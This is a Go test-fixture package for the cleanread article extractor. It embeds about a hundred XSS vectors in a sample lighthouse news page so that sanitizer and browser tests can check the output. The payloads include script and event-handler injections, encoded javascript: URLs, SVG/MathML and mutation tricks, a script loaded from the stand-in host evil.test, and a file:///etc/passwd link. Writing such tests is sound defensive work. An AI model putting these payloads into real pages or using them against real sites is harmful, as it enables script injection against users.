// Package xssvectors holds cleanread's own XSS vectors, each meant to be
// placed inside a real article (Page) so that it survives extraction.
//
// Two suites use them: core's Go test (core/xss_test.go) checks that every
// output field is clean, and web's Chromium test (web/xss_browser_test.go)
// renders each page in the reader overlay and the widget and checks that no
// dialog opens, no request leaves for the attacker's host and no active
// element or attribute reaches the reader's DOM.
//
// Every address a vector means to load from the attacker points at
// AttackerHost.
package xssvectors

// AttackerHost is the host of the attacker's addresses in the vectors.
const AttackerHost = "evil.test"

// Page builds a news page whose article holds vector between its second
// and third paragraphs; head goes into <head>, title is the raw <title>
// markup and byline the raw byline markup. Empty title and byline get
// harmless defaults.
func Page(title, head, byline, vector string) []byte {
	if title == "" {
		title = "Harbour Town Opens Its Restored Lighthouse to Visitors"
	}
	if byline == "" {
		byline = "By Margaret Ellison"
	}
	return []byte(`<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>` + title + `</title>` + head + `</head>
<body>
<nav class="menu"><a href="/">Home</a> <a href="/news/">News</a> <a href="/sport/">Sport</a> <a href="/about/">About us</a></nav>
<div id="content"><article class="post">
<h1>Harbour Town Opens Its Restored Lighthouse to Visitors</h1>
<p class="byline">` + byline + `</p>
<p>After four years of scaffolding, fundraising and careful masonry, the old lighthouse at the end of the north pier opened its doors to the public on Saturday morning, and by noon the queue of visitors reached back past the fish market and the lifeboat station.</p>
<p>The tower, built in 1868 from local granite, had been closed since a winter storm cracked its lantern room. Volunteers raised most of the money themselves, selling calendars, running a summer fair and writing, as one of them put it, more grant applications than anyone should ever have to read.</p>
` + vector + `
<p>Inside, the spiral staircase of one hundred and twelve steps has been repaired with iron cast in the same foundry that made the original treads. A small exhibition on the ground floor tells the story of the keepers who lived here, their logbooks, and the wrecks they could not prevent.</p>
<p>The council expects twenty thousand visitors in the first year. Tickets cost four pounds for adults, children go free, and the tower will open every day except Tuesdays until the end of October, weather permitting, when the winter timetable begins.</p>
<p>"It was never just a building," said the chair of the trust, standing at the top of the stairs with the whole bay below her. "It is the thing you see from the boat when you are coming home."</p>
</article></div>
<footer><p>Copyright 2024 Harbour Gazette. All rights reserved.</p> <a href="/privacy">Privacy</a></footer>
</body></html>`)
}

// Case is one vector and where it goes in the page.
type Case struct {
	Name   string
	Title  string // raw <title> content
	Head   string // extra <head> markup
	Byline string // raw byline paragraph content
	Vector string // body markup between the paragraphs
	// Keep is text that must appear in the visible text of the HTML
	// output, proving that the vector stayed text rather than markup (or
	// that the safe part of it survived).
	Keep []string
	// Bug marks a case that shows a known bug: it is skipped while the
	// bug shows. BugNoURL is the same for the run without a page URL.
	Bug, BugNoURL string
}

// Page returns the case's page.
func (c Case) Page() []byte { return Page(c.Title, c.Head, c.Byline, c.Vector) }

// Cases are the vectors, by kind.
var Cases = []Case{
	// Script and event handlers.
	{Name: "script tag", Vector: `<p>Before the script <script>alert(1)</script> and after it, the text goes on about the pier.</p>`, Keep: []string{"Before the script and after it"}},
	{Name: "script standalone", Vector: `<script>document.write('<img src=x onerror=alert(1)>')</script>`},
	{Name: "script src", Vector: `<script src="https://evil.test/x.js"></script><p>A paragraph about harbour boats after an external script tag.</p>`},
	{Name: "img onerror", Vector: `<p>A photograph of the tower: <img src="x" onerror="alert(1)"> taken from the beach at dawn.</p>`},
	{Name: "img onerror unquoted", Vector: `<p>Another photograph <img src=x onerror=alert(1)//> from the pier end at sunset.</p>`},
	{Name: "body onload", Vector: `<body onload="alert(1)"><p>Text after a second body tag that carries an onload handler.</p>`},
	{Name: "onmouseover paragraph", Vector: `<p onmouseover="alert(1)" onclick="alert(2)">Hover over this paragraph about the keepers and nothing may happen at all.</p>`, Keep: []string{"Hover over this paragraph"}},
	{Name: "onmouseover link", Vector: `<p>Read the <a href="https://harbour.test/history" onmouseover="alert(1)">full history of the tower</a> on the trust's site.</p>`, Keep: []string{"full history of the tower"}},
	{Name: "style attribute", Vector: `<p style="background:url(javascript:alert(1))">A paragraph with a style attribute that loads a script address.</p>`},
	{Name: "style element", Vector: `<style>body{background:url("javascript:alert(1)")}</style><p>A paragraph after an inline style element in the article.</p>`},

	// javascript: in its encoded and split forms.
	{Name: "javascript plain", Vector: `<p>See <a href="javascript:alert(1)">the keepers' logbook</a> for more details.</p>`, Keep: []string{"the keepers' logbook"}},
	{Name: "javascript tab entity", Vector: `<p>See <a href="jav&#x09;ascript:alert(1)">the tab link</a> for details.</p>`, Keep: []string{"the tab link"}},
	{Name: "javascript newline entity", Vector: `<p>See <a href="jav&#x0A;ascript:alert(1)">the newline link</a> for details.</p>`},
	{Name: "javascript CR entity", Vector: `<p>See <a href="jav&#x0D;ascript:alert(1)">the CR link</a> for details.</p>`},
	{Name: "javascript decimal entity", Vector: `<p>See <a href="&#106;avascript:alert(1)">the decimal link</a> for details.</p>`},
	{Name: "javascript all entities", Vector: `<p>See <a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">the hex link</a> for details.</p>`},
	{Name: "javascript padded entities", Vector: `<p>See <a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">the padded link</a> for details.</p>`},
	{Name: "javascript colon entity", Vector: `<p>See <a href="javascript&colon;alert(1)">the colon link</a> for details.</p>`},
	{Name: "javascript colon numeric", Vector: `<p>See <a href="javascript&#58;alert(1)">the colon number link</a> for details.</p>`},
	{Name: "javascript mixed case", Vector: `<p>See <a href="JaVaScRiPt:alert(1)">the mixed case link</a> for details.</p>`},
	{Name: "javascript leading spaces", Vector: "<p>See <a href=\"   \n\t javascript:alert(1)\">the padded link</a> for details.</p>"},
	{Name: "javascript leading controls", Vector: "<p>See <a href=\"&#x01;&#x1F; javascript:alert(1)\">the control link</a> for details.</p>"},
	{Name: "javascript split newline", Vector: "<p>See <a href=\"java\nscript:alert(1)\">the split link</a> for details.</p>"},
	{Name: "javascript split tab", Vector: "<p>See <a href=\"java\tscr\tipt:alert(1)\">the split tab link</a> for details.</p>"},
	{Name: "javascript nul", Vector: "<p>See <a href=\"java\x00script:alert(1)\">the nul link</a> for details.</p>"},
	{Name: "javascript line separator", Vector: "<p>See <a href=\"\u2028javascript:alert(1)\">the separator link</a> for details.</p>"},
	{Name: "javascript in img src", Vector: `<p>A picture <img src="javascript:alert(1)" alt="tower"> of the tower.</p>`},
	{Name: "javascript entity double", Vector: `<p>See <a href="&amp;#106;avascript:alert(1)">the double entity link</a> for details.</p>`},
	{Name: "javascript entity colon double", Vector: `<p>See <a href="javascript&amp;colon;alert(1)">the double colon link</a> for details.</p>`},
	{Name: "javascript entity in markdown dest", Vector: `<p>See <a href="&amp;#x6A;avascript&amp;#x3A;alert(1)">the hex double link</a> for details.</p>`},
	{Name: "vbscript", Vector: `<p>See <a href="vbscript:msgbox(1)">the old link</a> and <a href="VBScript&#x3A;msgbox(2)">another</a>.</p>`},
	{Name: "livescript", Vector: `<p>See <a href="livescript:alert(1)">the ancient link</a> for details.</p>`},
	{Name: "data text html", Vector: `<p>See <a href="data:text/html,<script>alert(1)</script>">the data link</a> and <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">another</a>.</p>`},
	{Name: "data svg image", Vector: `<p>A drawing <img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="drawing"> of the lantern.</p>`},
	{Name: "data image as link", Vector: `<p>See <a href="data:image/png;base64,iVBORw0KGgo=">the image link</a> for details.</p>`},
	{Name: "data image in link text", Vector: `<p>See <a href="https://harbour.test/"><img src="data:text/html,<script>alert(1)</script>" alt="logo"></a> here.</p>`},
	{Name: "file scheme", Vector: `<p>See <a href="file:///etc/passwd">the file link</a> for details.</p>`},

	// SVG and MathML.
	{Name: "svg onload", Vector: `<p>A map <svg onload="alert(1)"><circle r="4"/></svg> of the bay.</p>`},
	{Name: "svg script", Vector: `<svg><script>alert(1)</script><text>Lighthouse map label</text></svg>`},
	{Name: "svg xlink", Vector: `<p>Map: <svg><a xlink:href="javascript:alert(1)"><text x="0" y="10">click the map</text></a></svg> of the bay.</p>`},
	{Name: "svg animate", Vector: `<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text x="20" y="20">Click the animated map</text></a></svg>`},
	{Name: "svg set", Vector: `<svg><set attributeName="onmouseover" to="alert(1)"/><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>`},
	{Name: "svg foreignObject", Vector: `<svg><foreignObject><iframe src="javascript:alert(1)"></iframe><p>Text inside a foreign object in an SVG drawing of the pier.</p></foreignObject></svg>`},
	{Name: "svg style breakout", Vector: `<svg><style><img src=x onerror=alert(1)></style></svg><p>After the SVG style element the article continues.</p>`},
	{Name: "math href", Vector: `<p>A formula <math href="javascript:alert(1)"><mi>x</mi></math> in the text.</p>`},
	{Name: "math maction", Vector: `<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">CLICKME</maction></math>`},
	{Name: "math mglyph style", Vector: `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`},
	{Name: "math mtext table", Vector: `<math><mtext><h1><a href="javascript:alert(1)">Mathematical heading link</a></h1></mtext></math>`},

	// Frames, objects, forms, media.
	{Name: "iframe srcdoc", Vector: `<iframe srcdoc="<script>alert(1)</script>"></iframe><p>After the iframe the article continues about the pier.</p>`},
	{Name: "iframe srcdoc entities", Vector: `<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>`},
	{Name: "iframe javascript", Vector: `<iframe src="javascript:alert(1)"></iframe><frame src="javascript:alert(1)">`},
	{Name: "object embed", Vector: `<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)"><applet code="x"></applet>`},
	{Name: "srcset javascript", Vector: `<p>A photo <img src="placeholder.gif" srcset="javascript:alert(1) 2x, javascript:alert(2) 800w" alt="photo"> of the steps.</p>`},
	{Name: "data-src javascript", Vector: `<p>A lazy photo <img src="" data-src="javascript:alert(1)" alt="lazy"> of the steps.</p>`},
	{Name: "data-srcset javascript", Vector: `<p>A lazy photo <img data-srcset="javascript:alert(1) 800w" alt="lazy2"> of the steps.</p>`},
	{Name: "picture source javascript", Vector: `<p><picture><source srcset="javascript:alert(1)"><img src="lazy.gif" alt="pic"></picture> A picture of the keepers.</p>`},
	{Name: "video poster", Vector: `<video poster="javascript:alert(1)" src="javascript:alert(2)" controls></video><audio src="javascript:alert(1)"></audio>`},
	{Name: "formaction", Vector: `<form action="javascript:alert(1)"><p>A form paragraph in the article about the lighthouse tickets.</p><button formaction="javascript:alert(1)">Buy</button><input type="image" src="javascript:alert(1)" formaction="javascript:alert(2)"></form>`},
	{Name: "input onfocus", Vector: `<p>Search <input autofocus onfocus="alert(1)"> <textarea onfocus="alert(1)"><script>alert(1)</script></textarea> the archive.</p>`},
	{Name: "details ontoggle", Vector: `<details open ontoggle="alert(1)"><summary>More about the keepers</summary><p>The keepers kept logbooks for a hundred years.</p></details>`},
	{Name: "marquee", Vector: `<marquee onstart="alert(1)">Scrolling news about the pier reopening</marquee>`},
	{Name: "xmp plaintext", Vector: `<xmp><script>alert(1)</script></xmp><listing><img src=x onerror=alert(1)></listing>`},

	// <base>, meta refresh.
	{Name: "base javascript", Head: `<base href="javascript:alert(1)//">`, Vector: `<p>See <a href="logbook">the relative logbook link</a> and <img src="tower.jpg" alt="tower">. The keepers kept a record of every ship that passed the pier in fog, and the trust has now put those pages on show.</p>`, Keep: []string{"the relative logbook link"}},
	{Name: "base in body", Vector: `<base href="javascript:alert(1)//"><p>See <a href="logbook">the relative link</a> after a base in the body.</p>`},
	{Name: "base data", Head: `<base href="data:text/html,x/">`, Vector: `<p>See <a href="logbook">the relative link</a> with a data base.</p>`},
	{Name: "meta refresh", Head: `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`, Vector: `<meta http-equiv="refresh" content="0; url=data:text/html,<script>alert(1)</script>">`},
	{Name: "link import", Head: `<link rel="import" href="javascript:alert(1)"><link rel="stylesheet" href="javascript:alert(1)">`},

	// noscript and template mutation tricks.
	{Name: "noscript title mutation", Vector: `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><p>Text after the noscript mutation trick in the article body.</p>`},
	{Name: "noscript img", Vector: `<p>A photo <img src="lazy.gif" alt="lazy"><noscript><img src="javascript:alert(1)" onerror="alert(2)"></noscript> of the pier.</p>`},
	{Name: "noscript style", Vector: `<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>`},
	{Name: "template", Vector: `<template><img src=x onerror=alert(1)><script>alert(1)</script></template><p>A paragraph after a template element in the article.</p>`},
	{Name: "template in table", Vector: `<table><template><td><img src=x onerror=alert(1)></td></template></table>`},
	{Name: "comment breakout", Vector: `<!--<img src="--><img src=x onerror=alert(1)//">--><p>After the comment trick the article continues.</p>`},
	{Name: "cdata", Vector: `<p>Text <![CDATA[<script>alert(1)</script>]]> with a CDATA section.</p>`},
	{Name: "select mutation", Vector: `<select><option><style></option></select><img src=x onerror=alert(1)></style></select>`},

	// Markdown injection through text.
	{Name: "markdown link in text", Vector: `<p>Click [here](javascript:alert(1)) to read the logbook online.</p>`, Keep: []string{"[here](javascript:alert(1))"}},
	{Name: "markdown image in text", Vector: `<p>The photo ![x](javascript:alert(1)) and ![y](https://evil.test/track.png) are text.</p>`, Keep: []string{"![x](javascript:alert(1))"}},
	{Name: "markdown autolink in text", Vector: `<p>Visit &lt;https://evil.test&gt; or &lt;javascript:alert(1)&gt; for more.</p>`, Keep: []string{"<https://evil.test>", "<javascript:alert(1)>"}},
	{Name: "script as text", Vector: `<p>The tag &lt;script&gt;alert(1)&lt;/script&gt; and &lt;img src=x onerror=alert(1)&gt; are only text here.</p>`, Keep: []string{"<script>alert(1)</script>", "<img src=x onerror=alert(1)>"}},
	{Name: "html block as text", Vector: `<p>&lt;div onclick="alert(1)"&gt;</p><p>&lt;!-- comment --&gt;</p><p>&lt;?php echo 1 ?&gt;</p>`, Keep: []string{`<div onclick="alert(1)">`, "<!-- comment -->"}},
	{Name: "reference definition", Vector: `<p>Read [the log][1] now.</p><p>[1]: javascript:alert(1)</p>`, Keep: []string{"[1]: javascript:alert(1)"}},
	{Name: "reference definition title", Vector: `<p>[log]: &lt;javascript:alert(1)&gt; "title"</p><p>Read [log] now.</p>`},
	{Name: "entity in text", Vector: `<p>Entities &amp;#106;avascript: and &amp;lt;script&amp;gt; stay as written.</p>`, Keep: []string{"&#106;avascript:", "&lt;script&gt;"}},
	{Name: "backslashes", Vector: `<p>Back\slashes \[x\](javascript:alert(1)) and \&lt;script\&gt; stay.</p>`, Keep: []string{`\[x\](javascript:alert(1))`}},
	{Name: "link text closes link", Vector: `<p>See <a href="https://harbour.test/">x](javascript:alert(1)) [y</a> here. The keepers kept a record of every ship that passed the pier in fog, and the trust has now put those pages on show.</p>`, Keep: []string{"x](javascript:alert(1)) [y"}},
	{Name: "link text image", Vector: `<p>See <a href="https://harbour.test/">![a](javascript:alert(1))</a> here.</p>`},
	{Name: "alt closes image", Vector: `<p>A photo <img src="https://harbour.test/t.jpg" alt="a](javascript:alert(1)) ![b"> of the tower.</p>`},
	{Name: "href breaks destination", Vector: `<p>See <a href="https://harbour.test/a) [x](javascript:alert(1)">the paren link</a> and <a href="https://harbour.test/a b &quot;t&quot;">the space link</a>.</p>`},
	{Name: "href newline injection", Vector: "<p>See <a href=\"https://harbour.test/a\n\n[x](javascript:alert(1))\">the newline href</a> here.</p>"},
	{Name: "href angle brackets", Vector: `<p>See <a href="https://harbour.test/&lt;script&gt;alert(1)&lt;/script&gt;">the angle href</a> here.</p>`},
	{Name: "href quote breakout", Vector: `<p>See <a href='https://harbour.test/"onmouseover="alert(1)'>the quote href</a> here.</p>`},
	{Name: "href backslash", Vector: `<p>See <a href="https://harbour.test/a\">the backslash href</a> and <a href="\\evil.test\x">another</a>.</p>`},
	{Name: "href entity in destination", Vector: `<p>See <a href="https://harbour.test/?a=1&amp;b=&amp;lt;script&amp;gt;">the amp href</a> here.</p>`},
	{Name: "emphasis and code", Vector: "<p>Code <code>`</code><code>``x``</code> and <code>&lt;/code&gt;&lt;script&gt;alert(1)&lt;/script&gt;</code> stay code.</p>"},
	{Name: "pre breakout", Vector: "<pre><code class=\"language-js&quot; onclick=&quot;alert(1)\">```\n&lt;/code&gt;&lt;/pre&gt;&lt;script&gt;alert(1)&lt;/script&gt;\n```</code></pre>", Keep: []string{"</code></pre><script>alert(1)</script>"}},
	{Name: "heading with vector", Vector: `<h2><img src=x onerror=alert(1)>The keepers <script>alert(1)</script>&lt;b&gt;</h2><p>The keepers lived in the cottages beside the tower for over a century.</p>`, Keep: []string{"The keepers <b>"}},
	{Name: "table with vectors", Vector: `<table><tr><th>Year</th><th>Keeper &lt;b&gt;</th></tr><tr><td><a href="javascript:alert(1)">1868</a></td><td>&lt;script&gt;alert(1)&lt;/script&gt;</td></tr><tr><td>1901</td><td onclick="alert(1)">John Smith</td></tr></table>`, Keep: []string{"<script>alert(1)</script>", "Keeper <b>"}},
	{Name: "table cell pipe", Vector: `<table><tr><th>Year</th><th>Keeper | name</th></tr><tr><td>1901</td><td>John | Smith</td></tr></table>`, Keep: []string{"Keeper | name", "John | Smith"}},
	{Name: "heading ends with hash", Vector: `<h2>Why we rank number #</h2><p>The ranking of the ferry service put it first among the island routes this year.</p>`, Keep: []string{"Why we rank number #"}},
	{Name: "title ends with hash", Title: `Notes on C #`},
	{Name: "adjacent inline", Vector: "<p>Joined <b>bold</b><b>er</b> and <i>it</i><i>alic</i> and <code>co</code><code>de</code> and <code>`</code><code>``x``</code> words.</p>", Keep: []string{"Joined bolder and italic and code and ```x`` words."}},
	{Name: "list with vectors", Vector: `<ul><li onclick="alert(1)"><a href="javascript:alert(1)">First</a> item</li><li>&lt;img src=x onerror=alert(1)&gt;</li></ul><ol start="1&quot; onclick=&quot;alert(1)"><li>One</li></ol><ol start="2"><li>Two</li></ol>`},
	{Name: "blockquote with vectors", Vector: `<blockquote cite="javascript:alert(1)"><p>&lt;script&gt;alert(1)&lt;/script&gt; said the keeper.</p></blockquote>`},

	// Titles, bylines and metadata holding markup.
	{Name: "title with html", Title: `&lt;img src=x onerror=alert(1)&gt; Lighthouse &lt;script&gt;alert(1)&lt;/script&gt;`},
	{Name: "title raw tags", Title: `<script>alert(1)</script> Harbour <b>Lighthouse</b> *opens*`},
	{Name: "byline with html", Byline: `By &lt;img src=x onerror=alert(1)&gt; Jane &lt;b&gt;Doe&lt;/b&gt;`},
	{Name: "byline markdown", Byline: `By [Jane](javascript:alert(1)) Doe`},
	{Name: "meta with html", Head: `<meta name="author" content="<img src=x onerror=alert(1)>"><meta property="og:title" content="<script>alert(1)</script>"><meta property="og:site_name" content="<svg onload=alert(1)>"><meta name="description" content="<iframe srcdoc='x'>"><meta property="article:published_time" content="<img src=x onerror=alert(1)>">`},
	{Name: "json-ld with html", Head: `<script type="application/ld+json">{"@type":"NewsArticle","headline":"<img src=x onerror=alert(1)> Lighthouse","author":{"name":"<script>alert(1)</script>"},"publisher":{"name":"<b>Gazette</b>"},"image":"javascript:alert(1)","description":"[x](javascript:alert(1))"}</script>`},
	{Name: "og image javascript", Head: `<meta property="og:image" content="javascript:alert(1)">`},
	{Name: "og image data html", Head: `<meta property="og:image" content="data:text/html,<script>alert(1)</script>">`},
	{Name: "lead image javascript", Vector: `<p><img src="javascript:alert(1)" alt="first image"> The first image of the article has a script address.</p>`},
	{Name: "html dir lang", Head: `<meta http-equiv="content-language" content="en&quot; onload=&quot;alert(1)">`},
}
